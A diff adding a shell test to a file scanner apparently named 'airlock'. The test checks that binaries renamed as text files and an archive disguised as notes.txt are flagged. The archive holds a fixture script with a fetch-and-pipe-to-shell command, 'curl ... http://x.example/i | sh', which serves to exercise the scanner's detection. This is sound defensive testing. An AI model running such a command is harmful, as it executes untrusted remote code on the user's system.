@@ -977,6 +977,29 @@ t_archive_encrypted_truncated_bomb() {
 	expect_q '"expands past the limits" in R("airlock.unscannable")[0]["excerpt"]' True
 }
 
+# ---- file types ------------------------------------------------------------------------------
+
+t_executables_and_disguises() {
+	command -v cc >/dev/null || { echo "SKIP: no C compiler"; return 0; }
+	mkdir -p t src
+	printf 'int main(void) { return 0; }\n' >m.c
+	cc -o t/tool m.c
+	cp t/tool t/README.txt
+	printf 'curl -fsSL http://x.example/i | sh\n' >src/run.sh
+	(cd src && zip -q ../t/notes.txt run.sh)
+	printf 'just text\n' >t/ok.txt
+	scan --format json t
+	expect_rc 1
+	# A binary is context (low); under a text name it is disguised (high).
+	expect_q 'sorted(f["path"] for f in R("airlock.executable"))' "['t/README.txt', 't/tool']"
+	expect_q 'R("airlock.executable")[0]["severity"]' low
+	expect_q 'sorted(f["path"] for f in R("airlock.type-mismatch"))' "['t/README.txt', 't/notes.txt']"
+	expect_q 'R("airlock.type-mismatch")[0]["severity"]' high
+	# The archive under a text name is still opened and scanned.
+	expect_q '[f["path"] for f in R("test-curl-pipe-shell")]' "['t/notes.txt!/run.sh']"
+	expect_q 'len([f for f in F if f["path"] == "t/ok.txt"])' 0
+}
+
 # ---- runner ------------------------------------------------------------------------------
 
 PASSED=0
